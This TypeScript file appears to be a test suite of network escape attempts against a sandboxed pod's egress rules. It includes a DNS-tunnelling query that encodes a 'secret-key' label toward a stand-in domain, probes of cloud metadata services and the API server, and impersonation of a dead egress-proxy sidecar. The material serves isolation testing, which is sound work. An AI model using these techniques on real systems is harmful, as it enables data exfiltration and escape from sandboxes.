import { processes } from 'kars-constructs/contract';
import {
  famous,
  REACHED,
  SECOND_INBOUND_PORT,
  WORLD_PORT,
  type NetworkAttack,
  type Order,
  type Surroundings,
} from './network-attack.ts';

const port = WORLD_PORT;

/** A question of DNS whose name carries what is to leave; RFC 1035 section 4.1. */
function question(type: number): string {
  const labels = ['c2VjcmV0LWtleQ', 'tunnel', 'example'];
  const name = labels.map((label) => `${String.fromCharCode(label.length)}${label}`).join('');
  const head = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, Buffer.from(`${name}\0`), Buffer.from([0, type, 0, 1])]).toString('hex'); // prettier-ignore
}

const NULL = 10;
const ROUTER_ALERT = '94040000';

const attack = (
  id: string,
  what: string,
  order: (around: Surroundings) => Order,
  succeeded = REACHED,
): NetworkAttack => ({
  id,
  what,
  layer: 'packets',
  orders: (around) => [order(around)],
  succeeded,
});

const tcp = (to: string, more: object = {}): Order => ({ attempt: 'tcp', to, port, ...more });
const udp = (to: string, more: object = {}): Order => ({ attempt: 'udp', to, port, ...more });

const { statusPort } = processes.router;
const ANSWERS = /^HTTP\/1\.1 \d/;

const streams: readonly NetworkAttack[] = [
  attack('tcp-options', 'set options of the IP header', ({ ipv4 }) =>
    tcp(ipv4, { options: ROUTER_ALERT }),
  ),
  attack('tcp-inbound-port', 'connect out from a port that is open inwards', ({ ipv4 }) =>
    tcp(ipv4, { from: ['', SECOND_INBOUND_PORT] }),
  ),
];

const datagrams: readonly NetworkAttack[] = [
  attack(
    'udp-broadcast',
    'send to everybody on the link',
    () => udp('255.255.255.255'),
    // Any of them may answer.
    /reached|neighbour/,
  ),
  attack('udp-multicast', 'ask the multicast group of mDNS over IPv4', () =>
    udp('224.0.0.251', { port: 5353 }),
  ),
  attack('udp-multicast-ipv6', 'ask the multicast group of mDNS over IPv6', () =>
    udp('ff02::fb%eth0', { port: 5353 }),
  ),
  attack('ping', 'send an echo request through a socket for pings', ({ ipv4 }) => ({
    attempt: 'ping',
    kind: 'SOCK_DGRAM',
    to: ipv4,
  })),
  attack('ping-ipv6', 'send an echo request over IPv6', ({ ipv6 }) => ({
    attempt: 'ping',
    kind: 'SOCK_DGRAM',
    to: ipv6,
  })),
];

const names: readonly NetworkAttack[] = [
  attack('dns-public', 'ask a resolver of its own for records of type NULL', () =>
    udp(famous.publicDns, { port: 53, payload: question(NULL) }),
  ),
  attack('dns-tls', 'ask a resolver over TLS', () => tcp(famous.publicDns, { port: 853 })),
];

const places: readonly NetworkAttack[] = [
  attack('metadata-ipv6', 'ask the metadata service over IPv6', () =>
    tcp(famous.awsMetadata, { port: 80 }),
  ),
  attack('platform-address', 'ask the platform address of Azure', () =>
    tcp(famous.azurePlatform, { port: 80 }),
  ),
  attack('api-server', 'connect to the API server', () => tcp(famous.apiServer, { port: 443 })),
  attack(
    'health-mapped',
    'ask a sidecar for its status by an IPv4-mapped address',
    ({ own }) => tcp(`::ffff:${own}`, { port: statusPort }),
    ANSWERS,
  ),
  {
    id: 'listen',
    what: 'open a port that no inbound names, for a neighbour',
    layer: 'packets',
    orders: () => [{ attempt: 'listen', port: 8081, seconds: 4 }],
    asked: { port: 8081 },
    succeeded: REACHED,
  },
  {
    id: 'impersonate',
    what: 'take over the port of a sidecar that has died, and answer in its name',
    layer: 'packets',
    orders: ({ own }) => [
      { attempt: 'listen', at: own, port: processes['egress-proxy'].statusPort, seconds: 8, insist: true }, // prettier-ignore
    ],
    asked: { port: processes['egress-proxy'].statusPort, ends: 'egress-proxy' },
    succeeded: REACHED,
  },
];

/** Attempts to get packets past the rules of the pod. */
export const packetAttacks: readonly NetworkAttack[] = [
  ...streams,
  ...datagrams,
  ...names,
  ...places,
];
